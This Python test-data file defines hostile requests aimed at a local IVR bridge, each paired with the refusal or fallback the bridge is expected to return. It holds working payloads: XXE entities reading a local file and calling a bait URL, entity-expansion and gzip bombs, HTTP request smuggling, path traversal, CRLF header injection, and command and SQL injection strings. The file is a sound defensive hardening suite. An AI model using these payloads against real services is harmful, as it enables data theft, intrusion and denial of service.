"""The attacks on the bridge's port: what is sent, and how it must end. Nothing here is sent anywhere but to 127.0.0.1.

Ends: `MENU` (the backend's action), `HANGUP` (the fallback), `STATUS 0` and `STATUS 1` (a notification), a fault's code,
`HTTP nnn` (refused before anybody reads the body), `dropped` (no reply: nobody can tell where one would begin).
"""

from __future__ import annotations

import gzip
import json
import zlib
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import TypeAlias

from tests.support.calls import as_json, xml

End: TypeAlias = "str | int"
MARKER = "marker-of-a-file-that-nobody-may-read"
MAX_BODY = 256 * 1024
LATE = 1.0  # seconds: the deadline of the bridge that is attacked


@dataclass(frozen=True)
class Bait:
    """What an external entity may point to: a server that notes every connection, and a file with MARKER in it."""

    url: str
    file: str


@dataclass(frozen=True)
class Attack:
    """A body and how it must end; `dialect` where its first character does not tell."""

    name: str
    body: bytes | Callable[[Bait], bytes]
    end: End
    headers: dict[str, str] = field(default_factory=dict)
    dialect: str = ""


@dataclass(frozen=True)
class Script:
    """Pieces sent over a socket, a pause after each; `ends`: any of them. `hang_up`: the sender closes its side then."""

    name: str
    pieces: tuple[bytes, ...]
    ends: tuple[End, ...]
    pause: float = 0.0
    hang_up: bool = False
    seconds: float = 2.0


def question(inside: str, head: str = '<?xml version="1.0"?>', method: str = "GET_IVR_ACTION") -> bytes:
    """A question with anything for its params' content."""
    return f"{head}<methodCall><methodName>{method}</methodName><params><param>{inside}</param></params></methodCall>".encode()


def members(*pairs: tuple[str, str]) -> str:
    """A struct with values as they are given."""
    return "<value><struct>" + "".join(f"<member><name>{name}</name><value>{value}</value></member>" for name, value in pairs) + "</struct></value>"


def data(text: str, method: str = "GET_IVR_ACTION") -> bytes:
    """The vendor's JSON with anything for its DATA."""
    return f'{{"METHOD": "{method}", "DATA": {text}}}'.encode("utf-8", "surrogatepass")


DID = ("DID", "0730000000")
_LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(10))
_CALL_E = members(DID, ("CALLER_NAME", "&e;"))


def _doctype(subset: str, inside: str = _CALL_E) -> Callable[[Bait], bytes]:
    def body(bait: Bait) -> bytes:
        filled = subset.replace("URL", bait.url).replace("FILE", bait.file)
        return question(inside, f'<?xml version="1.0"?><!DOCTYPE methodCall {filled}>')

    return body


def _foreign(text: str) -> Callable[[Bait], bytes]:
    return lambda bait: text.replace("URL", bait.url).replace("FILE", bait.file).encode()


XXE = [
    Attack("file entity", _doctype('[<!ENTITY e SYSTEM "file://FILE">]'), "HANGUP"),
    Attack("http entity", _doctype('[<!ENTITY e SYSTEM "URL/entity">]'), "HANGUP"),
    Attack("public entity", _doctype('[<!ENTITY e PUBLIC "x" "URL/public">]'), "HANGUP"),
    Attack("parameter entity", _doctype('[<!ENTITY % p SYSTEM "URL/parameter"> %p;]'), "HANGUP"),
    Attack("entity by a parameter entity", _doctype("""[<!ENTITY % f SYSTEM "file://FILE"><!ENTITY % d "<!ENTITY e SYSTEM 'URL/?%f;'>">%d;]"""), "HANGUP"),
    Attack("external dtd", _doctype('SYSTEM "URL/dtd"'), "HANGUP"),
    Attack("external dtd by its public name", _doctype('PUBLIC "-//x//y" "URL/public-dtd"'), "HANGUP"),
    Attack("attribute defaults", _doctype('[<!ATTLIST value a CDATA "x">]', members(DID)), "HANGUP"),
    Attack("unparsed entity", _doctype('[<!NOTATION n SYSTEM "URL/n"><!ENTITY e SYSTEM "URL/u" NDATA n>]'), "HANGUP"),
    Attack("entity in an attribute", _doctype('[<!ENTITY e SYSTEM "URL/a">]', "<value a='&e;'>x</value>"), "HANGUP"),
    Attack("internal entity", _doctype('[<!ENTITY e "x">]'), "HANGUP"),
    Attack("a thousand million laughs", _doctype(f"[{_LAUGHS}]", members(("DID", "&l9;"))), "HANGUP"),
    Attack("quadratic blow-up", _doctype(f'[<!ENTITY e "{"x" * 50_000}">]', members(("DID", "&e;" * 40_000))), -32600),  # the method's name stands too far behind
    Attack("entity that holds itself", _doctype('[<!ENTITY e "&f;"><!ENTITY f "&e;">]'), "HANGUP"),
    Attack("empty doctype", _doctype("", members(DID)), "HANGUP"),
    Attack("doctype in small letters", question(members(DID), "<!doctype methodCall>"), "HANGUP"),
    Attack("doctype in utf-16", lambda bait: _doctype('[<!ENTITY e SYSTEM "URL/16">]')(bait).decode().replace(' version="1.0"', ' version="1.0" encoding="utf-16"').encode("utf-16"), "HANGUP", dialect="xmlrpc"),
    Attack("doctype in utf-7", lambda bait: b'<?xml version="1.0" encoding="utf-7"?>' + _doctype('[<!ENTITY e SYSTEM "URL/7">]')(bait).decode()[21:].encode("utf-7"), -32701),
    Attack("doctype behind a comment", lambda bait: b"<!-- - -->" + _doctype('[<!ENTITY e SYSTEM "URL/c">]')(bait)[21:], "HANGUP"),
    Attack("unknown entity", question(_CALL_E), -32700),
    Attack("xinclude", _foreign('<methodCall><methodName>GET_IVR_ACTION</methodName><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="URL/xi"/></methodCall>'), "HANGUP"),
    Attack("stylesheet", _foreign('<?xml-stylesheet href="URL/style"?><methodCall><methodName>system.listMethods</methodName></methodCall>'), "listed"),
    Attack("schema", _foreign('<methodCall xmlns:x="http://www.w3.org/2001/XMLSchema-instance" x:noNamespaceSchemaLocation="URL/xsd"><methodName>system.listMethods</methodName></methodCall>'), "listed"),
    Attack("soap", _foreign('<soap:Envelope xmlns:soap="URL/soap"><soap:Body/></soap:Envelope>'), -32600),
    Attack("html", _foreign('<html><img src="URL/img"/></html>'), -32600),
    Attack("svg with a script", _foreign("<svg xmlns='URL/svg'><script>x</script></svg>"), -32600),
]  # fmt: skip

_DEEP = 12_000
LARGE = [
    Attack("xml nested 12,000 deep", question("<value><array><data>" * _DEEP), "HANGUP"),
    Attack("xml nested 300 deep and closed", question("<value><array><data>" * 300 + "</data></array></value>" * 300), "HANGUP"),
    Attack("xml nested 40 deep", question("<value><array><data>" * 40 + "</data></array></value>" * 40), "HANGUP"),
    Attack("structs nested 60 deep", question("<value><struct><member><name>a</name>" * 60 + "<value/>" + "</member></struct></value>" * 60), "HANGUP"),
    Attack("json arrays 100,000 deep", data("[" * 100_000), "HANGUP"),
    Attack("json arrays 100,000 deep and closed", data("[" * 100_000 + "]" * 100_000), "HANGUP"),
    Attack("json objects 40,000 deep", data('{"a":' * 40_000 + "1" + "}" * 40_000), "HANGUP"),
    Attack("json arrays alone", b"[" * 200_000, -32600),
    Attack("json-rpc params 100,000 deep", b'{"jsonrpc":"2.0","id":1,"method":"GET_IVR_ACTION","params":' + b"[" * 100_000, "HANGUP", dialect="jsonrpc"),
    Attack("lenient json 50,000 deep", data("[" * 50_000).replace(b'"', b"'"), -32600),
    Attack("an attribute of 250,000 characters", question(f"<value a='{'x' * 250_000}'><struct/></value>"), "HANGUP"),
    Attack("20,000 attributes", question(f"<value {' '.join(f'a{n}=''' for n in range(20_000))}>x</value>"), -32700),
    Attack("15,000 attributes with values", question("<value " + " ".join(f"a{n}='1'" for n in range(15_000)) + f">{members(DID)[7:]}"), "MENU"),
    Attack("a text of 250,000 characters", question(members(DID, ("CALLER_NAME", "x" * 250_000))), "MENU"),
    Attack("250,000 references", question(members(DID, ("CALLER_NAME", "&#65;" * 50_000))), "MENU"),
    Attack("a method's name of 250,000 characters", question("<value/>", method="x" * 250_000), -32601),
    Attack("10,000 members in json", data(json.dumps({f"m{n}": "x" for n in range(10_000)})), "HANGUP"),
    Attack("10,000 members in xml", question(members(*[(f"m{n}", "x") for n in range(10_000)])), -32600),
    Attack("6,000 short members in xml", question("<value><struct>" + "<member><name>a</name><value/></member>" * 6_000 + "</struct></value>"), "HANGUP"),
    Attack("6,000 names of one member", data("{" + ",".join(f'"DID": "{n}"' for n in range(6_000)) + "}"), "MENU"),
    Attack("30,000 empty values", question("<value/>" * 30_000), "HANGUP"),
    Attack("30,000 params", question("</param><param>" * 15_000), "HANGUP"),
    Attack("100,000 commas", data("[" + "," * 100_000 + "]"), -32700),
    Attack("an unclosed string", b'{"METHOD": "' + b"\\\\" * 120_000, -32700),
    Attack("an unclosed comment of json5", b"{METHOD: 'GET_IVR_ACTION', /*" + b"/*" * 100_000, -32700),
    Attack("an unclosed comment", b"<methodCall><!--" + b"<!--" * 60_000, -32700),
    Attack("an unclosed cdata", b"<methodCall><![CDATA[" + b"<![CDATA[" * 25_000, -32700),
    Attack("250,000 blanks", b" " * 250_000, -32700, dialect="xmlrpc"),
    Attack("250,000 blanks in a tag", b"<methodCall" + b" " * 250_000, -32700),
    Attack("250,000 angle brackets", b"<" * 250_000, -32600),
    Attack("a body over the limit", xml(CALLER_NAME="x" * MAX_BODY), -32600),
    Attack("a json body over the limit", as_json(CALLER_NAME="x" * MAX_BODY), -32600),
    Attack("a json body over the limit behind a bom", b"\xef\xbb\xbf" + as_json(CALLER_NAME="x" * MAX_BODY), -32600, dialect="json"),
    Attack("a batch of 21", json.dumps([{"jsonrpc": "2.0", "method": "system.listMethods", "id": 1}] * 21).encode(), -32600, dialect="jsonrpc"),
    Attack("a multicall of 21", xml("system.multicall", [{"methodName": "system.listMethods", "params": []}] * 21), -32602),
    Attack("a multicall in a multicall", xml("system.multicall", [{"methodName": "system.multicall", "params": [[]]}]), "listed"),
]  # fmt: skip

ENCODINGS = [
    Attack("invalid utf-8", xml(CALLER_NAME="שלום").replace("שלום".encode(), b"\xd9\xff"), -32700),
    Attack("invalid utf-8 in json", as_json(CALLER_NAME="X").replace(b'"X"', b'"\xd9\xff"'), -32700),
    Attack("overlong utf-8", question(members(("DID", "X"))).replace(b">X<", b">\xc0\xaf<"), "MENU"),  # is windows-1255, read as it
    Attack("a surrogate in utf-8", question(members(("DID", "X"))).replace(b">X<", b">\xed\xa0\x80<"), "MENU"),
    Attack("says utf-16, is utf-8", question(members(DID), '<?xml version="1.0" encoding="utf-16"?>'), "MENU"),
    Attack("says utf-8, is utf-16", question(members(DID), '<?xml version="1.0" encoding="utf-8"?>').decode().encode("utf-16"), "MENU", dialect="xmlrpc"),
    Attack("utf-16 cut in a character", question(members(DID)).decode().encode("utf-16") + b"\xd8", -32700, dialect="xmlrpc"),
    Attack("utf-32", question(members(DID)).decode().encode("utf-32"), -32600, dialect="xmlrpc"),
    Attack("unknown encoding", question(members(DID), '<?xml version="1.0" encoding="klingon"?>'), -32701),
    Attack("an encoding of 250,000 characters", question("<value/>", f'<?xml version="1.0" encoding="{"x" * 250_000}"?>'), -32701),
    Attack("an encoding that is a codec of python's", question(members(DID), '<?xml version="1.0" encoding="unicode_escape"?>'), -32701),
    Attack("an encoding that is no text", question(members(DID), '<?xml version="1.0" encoding="zlib"?>'), -32701),
    Attack("a path for an encoding", question(members(DID), '<?xml version="1.0" encoding="../../etc/passwd"?>'), -32701),
    Attack("a nul in a text", question(members(("DID", "07\x0030"))), -32700),
    Attack("a reference to a nul", question(members(("DID", "07&#0;30"))), -32700),
    Attack("a reference to a surrogate", question(members(("DID", "&#xD800;"))), -32700),
    Attack("nuls alone", b"\0" * 1000, -32700, dialect="xmlrpc"),
    Attack("nuls around", b"\0\0" + b"\0\0" + xml() + b"\0" * 9, "MENU", dialect="xmlrpc"),
    Attack("nothing", b"", -32700, dialect="xmlrpc"),
    Attack("a nul in json", data('{"DID": "07\\u000030"}'), "MENU"),
    Attack("a lone surrogate in json", data('{"DID": "\\ud800", "IVR_UNIQUE_ID": "\\udfff"}'), "MENU"),
    Attack("a surrogate as it is in json", data('{"DID": "\ud800"}'), "MENU"),  # windows-1255 again
    Attack("half a method", b'{"METHOD": "GET_IVR_\\ud800", "DATA": {}}', -32601),
    Attack("json nan", data('{"DID": NaN}'), "HANGUP"),
    Attack("json infinity", data('{"DID": -Infinity}'), "HANGUP"),
    Attack("json 1e400", data('{"DID": 1e400, "DTMF": 1e400}'), "MENU"),
    Attack("a number of 200,000 digits", data(f'{{"DID": {"9" * 200_000}}}'), "MENU"),
    Attack("hexadecimal", data('{"DID": 0x7f}'), -32700),
    Attack("a json-rpc id of 1e400", b'{"jsonrpc":"2.0","id":1e400,"method":"GET_IVR_ACTION","params":{"DID":"1"}}', "MENU", dialect="jsonrpc"),
    Attack("a json-rpc id that is an object", b'{"jsonrpc":"2.0","id":{},"method":"GET_IVR_ACTION"}', -32600, dialect="jsonrpc"),
    Attack("prototype names", data('{"__proto__": {"DID": 1}, "constructor": 1, "DID": "1"}'), "MENU"),
    Attack("durations no clock has", data('{"DID": "1", "CALL_DURATION": 1e400, "CALL_START_EPOCH": "' + "9" * 5_000 + '"}', "HANGUP_CALL"), "STATUS 0"),
    Attack("unknown method", xml("DROP TABLE exchanges", {}), -32601),
    Attack("a dunder method", data("{}", "__class__"), -32601),
    Attack("a method with control characters", data("{}", "a\\u0000\\r\\nb"), -32601),
    Attack("an html method", question("<value/>", method="&lt;script&gt;alert(1)&lt;/script&gt;"), -32601),
]  # fmt: skip

_BOMB = gzip.compress(b"<" * 50_000_000)
COMPRESSED = [
    Attack("a gzip bomb", _BOMB, -32600, {"Content-Encoding": "gzip"}, "xmlrpc"),
    Attack("a gzip bomb of json", gzip.compress(b'{"METHOD": "' + b"x" * 50_000_000), -32600, {"Content-Encoding": "gzip"}, "json"),
    Attack("a deflate bomb", zlib.compress(b"<" * 50_000_000), -32600, {"Content-Encoding": "deflate"}, "xmlrpc"),
    Attack("a bomb in a bomb", gzip.compress(_BOMB), -32700, {"Content-Encoding": "gzip"}, "xmlrpc"),
    Attack("two encodings", gzip.compress(gzip.compress(xml())), -32701, {"Content-Encoding": "gzip, gzip"}, "xmlrpc"),
    Attack("gzip cut short", gzip.compress(xml())[:-12], -32700, {"Content-Encoding": "gzip"}, "xmlrpc"),
    Attack("no gzip at all", as_json(), -32700, {"Content-Encoding": "gzip"}),
    Attack("gzip with a wrong checksum", gzip.compress(xml())[:-8] + b"12345678", -32700, {"Content-Encoding": "gzip"}, "xmlrpc"),
    Attack("br", as_json(), -32701, {"Content-Encoding": "br"}),
    Attack("an unknown encoding", xml(), -32701, {"Content-Encoding": "x" * 4_000}),
    Attack("gzip and something behind it", gzip.compress(xml()) + b"<!DOCTYPE x>" * 1000, "MENU", {"Content-Encoding": "gzip"}, "xmlrpc"),
]  # fmt: skip

HEADERS = [
    Attack("a junk traceparent", xml(), "MENU", {"traceparent": "00-" + "g" * 32 + "-" + "0" * 16 + "-01"}),
    Attack("a traceparent of 8,000 characters", xml(), "MENU", {"traceparent": "00-" + "a" * 8_000}),
    Attack("X-Forwarded-For of 8,000 characters", xml(), "MENU", {"X-Forwarded-For": "1," * 4_000}),
    Attack("a junk host", xml(), "MENU", {"Host": '"><script>/../\\@evil:99999'}),
    Attack("X-Forwarded-Proto and its like", xml(), "MENU", {"X-Forwarded-Proto": "https://evil", "X-Forwarded-Host": "evil", "Forwarded": "for=evil"}),
    Attack("an authorization in no encoding", xml(), "MENU", {"Authorization": "Basic \xff\xfe"}),
    Attack("another method by a header", xml(), "MENU", {"X-HTTP-Method-Override": "DELETE"}),
    Attack("a content-type of utf-7", xml(), "MENU", {"Content-Type": "text/xml; charset=utf-7"}),
    Attack("a form that is none", xml(), "MENU", {"Content-Type": "multipart/form-data; boundary=" + "x" * 4_000}),
    Attack("headers meant for the backend", xml(), "MENU", {"Rpcbridge-Contract": "99", "Idempotency-Key": "x", "webhook-id": "x", "Cookie": "a=b"}),
    Attack("a proxy by a header", xml(), "MENU", {"Proxy": "http://127.0.0.1:1/"}),
]  # fmt: skip


def head(length: object = None, *extra: str, path: str = "/voicenter", version: str = "1.1", verb: str = "POST") -> bytes:
    """The head of a request, as somebody would write it by hand."""
    lines = [f"{verb} {path} HTTP/{version}", "Host: x", *([] if length is None else [f"Content-Length: {length}"]), *extra, "", ""]
    return "\r\n".join(lines).encode("latin-1")


CALL = xml()
CHUNKED = "Transfer-Encoding: chunked"
# A request that must stay a part of another's body.
SMUGGLED = head(len(xml(IVR_UNIQUE_ID="SMUGGLED"))) + xml(IVR_UNIQUE_ID="SMUGGLED")


def chunk(body: bytes) -> bytes:
    """One chunk of a chunked body."""
    return b"%x\r\n%s\r\n" % (len(body), body)


END = b"0\r\n\r\n"
_MEGABYTE = b"<" * 1_000_000

SCRIPTS = [
    Script("http/1.0", (head(len(CALL), version="1.0") + CALL,), ("MENU",)),
    Script("chunks of a byte", (head(None, CHUNKED) + b"".join(chunk(CALL[n : n + 1]) for n in range(len(CALL))) + END,), ("MENU",)),
    Script("expect 100-continue", (head(len(CALL), "Expect: 100-continue"), CALL), ("MENU",), pause=0.1),
    Script("expect something else", (head(len(CALL), "Expect: a-miracle") + CALL,), ("HTTP 417", "HTTP 400", "MENU")),
    Script("50 MB said and sent", (head(50_000_000), *[_MEGABYTE] * 50), (-32600, "dropped")),
    Script("50 MB of chunks", (head(None, CHUNKED), *[chunk(_MEGABYTE)] * 50), (-32600, "dropped")),
    Script("50 MB in one chunk", (head(None, CHUNKED) + b"2faf080\r\n", *[_MEGABYTE] * 50), (-32600, "dropped")),
    Script("a chunk's size of 50 MB", (head(None, CHUNKED), *[b"0" * 1_000_000] * 50), (-32700, "dropped")),
    Script("a chunk's extension of 50 MB", (head(None, CHUNKED) + b"1;", *[b"x" * 1_000_000] * 50), (-32700, "dropped")),
    Script("trailers of 50 MB", (head(None, CHUNKED) + chunk(CALL) + b"0\r\n", *[b"a: b\r\n" * 160_000] * 50), ("MENU", -32700, "dropped")),
    Script("a chunk larger than any memory", (head(None, CHUNKED) + b"F" * 16 + b"\r\n" + CALL,), (-32700, "dropped"), hang_up=True),
    Script("a negative chunk", (head(None, CHUNKED) + b"-5\r\n" + CALL + END,), (-32700, "HTTP 400")),
    Script("chunks cut short", (head(None, CHUNKED) + b"fff\r\n" + CALL,), (-32700,), hang_up=True),
    Script("chunks without an end", (head(None, CHUNKED) + chunk(CALL),), (-32700,), hang_up=True),
    Script("a body shorter than it says", (head(len(CALL) + 100) + CALL,), (-32700,), hang_up=True),
    Script("a body that never goes on", (head(len(CALL) + 100) + CALL,), (-32700,), seconds=LATE + 1),
    Script("a body that trickles", (head(len(CALL)), *[CALL[n : n + 1] for n in range(30)]), (-32700,), pause=0.05, seconds=LATE + 1),
    Script("chunks that trickle", (head(None, CHUNKED), *[chunk(b"<")] * 30), (-32700,), pause=0.05, seconds=LATE + 1),
    Script("a body longer than it says", (head(len(CALL)) + CALL + b"x" * 10_000,), ("MENU",)),
    Script("a negative length", (head(-5) + CALL,), ("HTTP 400", "dropped")),
    Script("a length with a sign", (head(f"+{len(CALL)}") + CALL,), ("HTTP 400", "dropped")),
    Script("a length with an underscore", (head("1_0") + CALL,), ("HTTP 400", "dropped")),
    Script("a length of 5,000 digits", (head("9" * 5_000) + CALL,), ("HTTP 400", "dropped")),
    Script("a length in hexadecimal", (head("0x10") + CALL,), ("HTTP 400", "dropped")),
    Script("two lengths", (head(len(CALL), "Content-Length: 5") + CALL,), ("HTTP 400", "dropped")),
    Script("two lengths in one", (head(f"{len(CALL)}, 5") + CALL,), ("HTTP 400", "dropped")),
    Script("chunks and a length", (head(4, CHUNKED) + END + SMUGGLED,), ("HTTP 400", "dropped", -32700)),
    Script("a length and chunks", (head(len(END + SMUGGLED), CHUNKED) + END + SMUGGLED,), ("HTTP 400", "dropped", -32700)),
    Script("chunks written oddly", (head(4, "Transfer-Encoding: xchunked") + END + SMUGGLED,), ("HTTP 400", "HTTP 501", "dropped")),
    Script("chunks with a blank", (head(4, "Transfer-Encoding : chunked") + END + SMUGGLED,), ("HTTP 400", "dropped")),
    Script("chunks twice", (head(None, "Transfer-Encoding: chunked, chunked") + END + SMUGGLED,), ("HTTP 400", "HTTP 501", "dropped")),
    Script("chunks of http/1.0", (head(None, CHUNKED, version="1.0") + chunk(CALL) + END,), ("HTTP 400", "dropped", -32700, "MENU")),
    Script("a header folded", (head(len(CALL), "X-A: b", " Content-Length: 0") + CALL,), ("HTTP 400", "dropped")),
    Script("a bare line feed", (head(len(CALL)).replace(b"\r\n", b"\n") + CALL,), ("HTTP 400", "dropped")),
    Script("a nul in a header", (head(len(CALL), "X-A: b\0c") + CALL,), ("HTTP 400", "dropped")),
    Script("a nul in the path", (head(len(CALL), path="/voicenter\0") + CALL,), ("HTTP 400", "HTTP 404", "dropped")),
    Script("a header of 100,000 characters", (head(len(CALL), "X-A: " + "b" * 100_000) + CALL,), ("HTTP 400", "HTTP 431", "dropped")),
    Script("5,000 headers", (head(len(CALL), *["X-A: b"] * 5_000) + CALL,), ("HTTP 400", "HTTP 431", "dropped")),
    Script("http/9.9", (head(len(CALL), version="9.9") + CALL,), ("HTTP 400", "HTTP 505", "dropped")),
    Script("no http at all", (b"\x16\x03\x01\x02\x00\x01\x00" * 9 + b"\r\n\r\n",), ("HTTP 400", "dropped")),
    Script("http/2", (b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",), ("HTTP 400", "HTTP 505", "dropped")),
    Script("a method of 300 letters", (head(len(CALL), verb="X" * 300) + CALL,), ("HTTP 400", "HTTP 405", "dropped")),
    Script("connect", (head(0, verb="CONNECT", path="127.0.0.1:22"),), ("HTTP 400", "HTTP 404", "HTTP 405", "dropped")),
    Script("the whole url in the request line", (head(len(CALL), path="http://evil.example/voicenter") + CALL,), ("MENU", "HTTP 404", "HTTP 400")),
    *[
        Script(f"the path {path}", (head(len(CALL), path=path) + CALL,), (end,))
        for path, end in (
            ("/voicenter/../voicenter", "HTTP 404"), ("//voicenter", "HTTP 404"), ("/voicenter/%2e%2e/livez", "HTTP 404"), ("/voicenter/..", "HTTP 403"),
            ("/voicenter;x", "HTTP 404"), ("/voicenter%00", "HTTP 404"), ("/voicenter/%00", "HTTP 403"), ("/voicenter/%2e%2e%2flivez", "HTTP 404"),
            ("/voicenter\\..\\livez", "HTTP 404"), ("/%76oicenter", "MENU"), ("/voicenter?x=../../admin", "MENU"), ("/voicenter/" + "a" * 3_000, "HTTP 403"),
            ("/VOICENTER", "HTTP 404"), ("/debug/../voicenter", "HTTP 403"), ("/voicenter/%ff", "HTTP 403"), ("/debug/exchanges/%2e%2e%2f", "HTTP 403"),
        )
    ],
]  # fmt: skip

# Ids and numbers that try to be more than a segment of a path; the bridge takes the blanks out of an id.
IDS = [
    "../../admin", "a/b?x=y#z", "x\r\nX-Evil: 1\r\n\r\nGET /admin HTTP/1.1", "%2e%2e%2fadmin", "..%2f", "..\\..\\admin", "http://evil.example/", "//evil",
    "@evil:80", "{call_id}", "{called_number}", "&call_id=2", "=;,+ ", "\u2024\u2024/", "\uff0e\uff0e", "...", "שלום", "\U0001f600", "a" * 5_000, "'; DROP TABLE x--",
    "$(id)", "<script>", "\x7f", "\u202e", ".a", "a..", "~", "-1",
]  # fmt: skip
# These are a path's own words, and never enter one: the caller hears the fallback. With blanks, they are the same.
NO_SEGMENT = [".", "..", " . . ", ".\r\n.", "\t..\n"]
